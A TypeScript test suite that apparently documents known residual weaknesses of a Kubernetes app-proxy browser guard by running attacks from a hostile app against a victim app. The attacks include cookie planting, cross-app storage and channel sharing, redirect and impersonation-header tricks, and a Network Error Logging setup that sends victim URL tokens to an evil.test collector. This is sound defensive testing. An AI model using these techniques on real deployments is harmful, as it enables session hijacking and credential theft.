import type { Page } from 'puppeteer';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { WebSocketServer } from 'ws';
import { importKubeconfig } from '../browser/harness/page-actions.ts';
import { waitFor } from '../browser/harness/wait-for.ts';
import { startApp } from '../cluster/apps/app.ts';
import { addWorkload } from '../cluster/workload.ts';
import { navigateTo } from './attacker-origins.ts';
import { type Fixture, HOST, startFixture } from './fixture.ts';
import { openIsolated } from './isolated-app.ts';
import { respondAsQuery, responseQuery } from './scriptable-server.ts';

/** What SECURITY.md says remains possible. A test here that fails means that something was fixed: remove it there, too. */

let fixture: Fixture;

beforeAll(async () => {
  fixture = await startFixture({
    hasAccessToAllHosts: false,
    storage: { mode: 'passphrase', passphrase: 'correct horse battery staple' },
    args: ['--short-reporting-delay'],
  });
});
afterAll(() => fixture?.stop());
afterEach(() => fixture.closeTabs());

const openBothApps = async (): Promise<[one: Page, other: Page]> => [
  await fixture.open(fixture.hostileApp),
  await fixture.open(fixture.victimApp),
];
const newMark = () => fixture.newMark({ isGuarded: false });
/** The request with this mark, as soon as the apiserver received it. */
const received = (mark: string) => waitFor(() => fixture.cluster.requestLog().find(({ path }) => path.includes(mark)));

describe('apps of one apiserver share in Chromium', () => {
  it('cookies, which are sent to each of them', async () => {
    const [one, other] = await openBothApps();
    await one.evaluate(() => {
      // biome-ignore lint/suspicious/noDocumentCookie: attackers do it so.
      document.cookie = 'planted=by-one; path=/';
    });
    expect(await other.evaluate(() => document.cookie)).toContain('planted=by-one');
    const mark = newMark();
    await other.evaluate((url) => fetch(url), `?mark=${mark}`);
    expect((await received(mark)).headers.cookie).toContain('planted=by-one');
  });

  it('cookies, which are sent to servers at other ports of the host too, also those that scripts cannot read', async () => {
    const app = await fixture.open(fixture.hostileApp);
    const cookies = responseQuery({
      headers: { 'Set-Cookie': 'hidden=by-one; Path=/; HttpOnly; Secure; SameSite=Strict' },
    });
    await app.evaluate((url) => fetch(url), cookies);
    const other = await fixture.chromium.browser.newPage();
    await other.goto(`${fixture.attackerUrl(HOST)}?echo`);
    expect(await other.evaluate(() => document.body.textContent)).toContain('hidden=by-one');
  });

  it('storage', async () => {
    const [one, other] = await openBothApps();
    await one.evaluate(() => localStorage.setItem('planted', 'by-one'));
    expect(await other.evaluate(() => localStorage.getItem('planted'))).toBe('by-one');
  });

  it('broadcast channels', async () => {
    const [one, other] = await openBothApps();
    const message = other.evaluate(
      () =>
        new Promise((resolve) => {
          const channel = new BroadcastChannel('news');
          channel.onmessage = ({ data }) => resolve(data);
          document.title = 'listening';
        }),
    );
    await waitFor(async () => (await other.title()) === 'listening');
    await one.evaluate(() => new BroadcastChannel('news').postMessage('from one'));
    expect(await message).toBe('from one');
  });
});

describe('rules cannot tell', () => {
  it('that a typed URL redirects: its first destination opens without a question', async () => {
    const page = await fixture.chromium.browser.newPage();
    const mark = newMark();
    const url = `${fixture.victimApp}?mark=${mark}`;
    const redirect = fixture.attackerUrl('evil.test') + responseQuery({ status: 302, headers: { Location: url } });
    // The gate interrupts the navigation, which puppeteer reports as a failure.
    await page.goto(redirect).catch(() => {});
    await waitFor(() => page.url() === url);
    expect(fixture.signedRequests(mark)).toHaveLength(1);
  });

  it('that a shared worker opens a socket: it is not blocked, but has no credential', async () => {
    const page = await fixture.openWithoutShim(fixture.hostileApp);
    const mark = newMark();
    await page.evaluate(
      (url) => {
        const code = `new WebSocket(${JSON.stringify(url)})`;
        new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      },
      `${fixture.victimApp.replace('https', 'wss')}?mark=${mark}`,
    );
    expect((await received(mark)).user).toBe('none');
  });

  it('that a header’s name belongs to impersonation: apps of a context that impersonates can add extra values', async () => {
    await importKubeconfig(
      fixture.chromium,
      `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "${fixture.origin}"}}]
users: [{name: u, user: {token: ${fixture.cluster.users.admin}, as: viewer}}]
contexts: [{name: as-viewer, context: {cluster: c, user: u}}]`,
    );
    const page = await fixture.open(fixture.hostileApp, 'as-viewer');
    const mark = newMark();
    await page.evaluate(
      (url) => fetch(url, { headers: { 'Impersonate-User': 'root', 'Impersonate-Extra-Color': 'red' } }),
      `?mark=${mark}`,
    );
    const { headers } = await received(mark);
    expect(headers).toMatchObject({ 'impersonate-user': 'viewer', 'impersonate-extra-color': 'red' });
  });

  it('that a tab showed another site meanwhile: its grant is used when the person goes back', async () => {
    const page = await fixture.open(fixture.hostileApp);
    await navigateTo(page, fixture.attackerUrl('evil.test'));
    await page.goBack();
    await waitFor(() => page.url() === fixture.hostileApp);
    const mark = newMark();
    await page.evaluate((url) => fetch(url), `?mark=${mark}`);
    expect(fixture.signedRequests(mark)).toHaveLength(1);
  });
});

describe('an app', () => {
  it('has the URLs of all apps of its origin in ordinary tabs reported by Network Error Logging, queries included', async () => {
    const allowed = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' };
    const collector = fixture.attackerUrl('evil.test') + responseQuery({ headers: allowed });
    const reports = JSON.stringify({ group: 'g', max_age: 3600, endpoints: [{ url: collector }] });
    const logging = JSON.stringify({ report_to: 'g', max_age: 3600, success_fraction: 1 });
    const one = await fixture.open(fixture.hostileApp);
    await one.evaluate((url) => fetch(url), responseQuery({ headers: { 'Report-To': reports, NEL: logging } }));
    const mark = newMark();
    await fixture.open(`${fixture.victimApp}?token=${mark}`);
    const isReported = (token: string) =>
      fixture.https.bodies.some((body) => body.includes(`webapp/proxy/?token=${token}`));
    await waitFor(() => isReported(mark));
    // Opening apart ends that. The one that is opened last is reported last.
    const [apart, last] = [newMark(), newMark()];
    await openIsolated(fixture, `${fixture.victimApp}?token=${apart}`);
    await fixture.open(`${fixture.victimApp}?token=${last}`);
    await waitFor(() => isReported(last));
    expect(isReported(apart)).toBe(false);
  });

  // The last test, because it leaves the vault locked.
  it('keeps a socket that was open when the vault was locked', async () => {
    const sockets = new WebSocketServer({ noServer: true });
    const app = await startApp('socket', {
      '': {
        handleRequest: respondAsQuery,
        setUpServer: (server) =>
          void server.on('upgrade', (request, socket, head) =>
            sockets.handleUpgrade(request, socket, head, (opened) => opened.on('message', (data) => opened.send(data))),
          ),
      },
    });
    try {
      const ports = [{ name: '', port: 80, targetPort: 8080, loopbackPort: app.ports[''] ?? 0 }];
      await addWorkload(fixture.cluster, { namespace: 'shop', name: 'socket', ports });
      const page = await fixture.open(`${fixture.origin}/api/v1/namespaces/shop/services/socket/proxy/`);
      const echo = (text: string) => page.evaluate(sendToSocket, text);
      expect(await echo('before')).toBe('before');
      await fixture.chromium.sendMessage('lock');
      expect(await page.evaluate(async () => (await fetch('?after')).status)).toBe(403);
      expect(await echo('after')).toBe('after');
    } finally {
      for (const socket of sockets.clients) socket.terminate();
      await app.stop();
    }
  });
});

/** Sends a text to the page's only socket, and resolves to the answer. */
function sendToSocket(text: string): Promise<string> {
  const page = globalThis as unknown as { socket?: Promise<WebSocket> };
  page.socket ??= new Promise((resolve) => {
    const socket = new WebSocket(location.href.replace('https', 'wss'));
    socket.onopen = () => resolve(socket);
  });
  return page.socket.then(
    (socket) =>
      new Promise((resolve) => {
        socket.onmessage = async ({ data }) => resolve(await new Response(data).text());
        socket.send(text);
      }),
  );
}
